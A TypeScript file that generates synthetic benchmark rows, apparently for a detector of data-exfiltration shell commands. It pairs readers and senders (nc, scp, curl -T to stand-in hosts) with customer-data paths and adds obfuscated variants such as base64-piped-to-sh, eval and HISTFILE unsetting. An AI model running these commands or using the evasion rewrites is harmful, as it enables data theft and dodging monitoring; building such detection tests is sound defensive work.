/**
 * Rows of this program's own, for a machine without a corpus: each tool with each protected place, each rewriting with
 * each of those. Few and made by rule, so that what they prove is that the bench works.
 */
import type { RowFile } from '../model.ts';

interface OwnRow {
  readonly command: string;
  readonly source: string;
  readonly note?: string;
  readonly class?: string;
  readonly mutation?: string;
}

const PLACES = [
  '/srv/crm/list.csv',
  '/var/lib/crm/2026.tsv',
  '/home/batch/out/members.csv',
  '/srv/callcenter/calls.txt',
];
const HARMLESS = ['/etc/hosts', '/var/log/syslog', '/opt/app/conf/app.properties', '/usr/share/dict/words'];

const READERS = ['cat', 'base64', 'xxd', 'gzip -c', 'openssl enc -base64 -in', 'sort', 'tac', 'nl', 'rev'];
const SENDERS: readonly ((path: string) => string)[] = [
  (path) => `scp ${path} backup@198.51.100.7:`,
  (path) => `curl -T ${path} https://files.example/`,
  (path) => `nc 198.51.100.7 9000 < ${path}`,
  (path) => `rsync -a ${path} backup@198.51.100.7:in/`,
  (path) => `mail -a ${path} x@mail.example < /dev/null`,
  (path) => `aws s3 cp ${path} s3://bucket/`,
];

const REWRITES: Readonly<Record<string, (command: string) => string>> = {
  quotes: (command) => command.replace(/^(\w)(\w*)/, "$1''$2"),
  backslash: (command) => `\\${command}`,
  eval: (command) => `eval "${command.replaceAll('"', '\\"')}"`,
  'sh -c': (command) => `sh -c '${command.replaceAll("'", `'\\''`)}'`,
  base64: (command) => `echo ${Buffer.from(command).toString('base64')} | base64 -d | sh`,
  variable: (command) => command.replace(/^(\S+) (.*)$/s, 'x=$1; $x $2'),
  env: (command) => `env -u HISTFILE A=1 ${command}`,
  function: (command) => `f() { ${command}; }; f`,
  subshell: (command) => `( ${command} )`,
};

const positives: readonly OwnRow[] = PLACES.flatMap((path) => [
  ...READERS.map((tool) => ({ command: `${tool} ${path}`, source: 'own', class: 'bulk_read' })),
  ...SENDERS.map((send) => ({ command: send(path), source: 'own', class: 'offhost' })),
]);

const ORDINARY: readonly string[] = [
  ...['nginx', 'sshd', 'cron'].flatMap((unit) => [`systemctl status ${unit}`, `journalctl -u ${unit} --since today`]),
  ...HARMLESS.flatMap((path) => [`ls -l ${path}`, `head -n 5 ${path}`, `wc -l ${path}`, `grep -c x ${path}`]),
  ...[
    'df -h',
    'free -m',
    'uptime',
    'ps aux | grep nginx',
    'du -sh /var/log/*',
    'id',
    'find /tmp -name "*.tmp" -delete',
  ],
];

const COPIES = [
  'COPY t TO STDOUT',
  "SELECT a FROM t INTO OUTFILE '/tmp/x'",
  "UNLOAD ('select 1') TO 's3://b/x'",
  '.dump',
];
const QUERIES = [
  'SELECT 1',
  'SELECT a, count(*) FROM t GROUP BY a',
  "INSERT INTO t VALUES (1, 'COPY t TO STDOUT')",
  'BEGIN',
];

const ofSource =
  (source: string, note?: string) =>
  (command: string): OwnRow => ({
    ...{ command, source },
    ...(note === undefined ? {} : { note }),
  });

export const OWN_ROWS: Readonly<Record<RowFile, readonly OwnRow[]>> = {
  positives,
  mutated: Object.entries(REWRITES).flatMap(([mutation, rewrite]) =>
    positives.map((row) => ({ ...row, mutation, command: rewrite(row.command) })),
  ),
  negatives: [
    ...ORDINARY.map(ofSource('tldr')),
    ...ORDINARY.map(ofSource('nl2bash', 'tier0')),
    ...ORDINARY.map(ofSource('nl2bash', 'tier1')),
  ],
  twins: HARMLESS.flatMap((path) => READERS.map((tool) => ({ command: `${tool} ${path}`, source: 'own' }))),
  ambiguous: [],
  'sql-positives': COPIES.map(ofSource('own')),
  'sql-negatives': QUERIES.map(ofSource('own')),
};
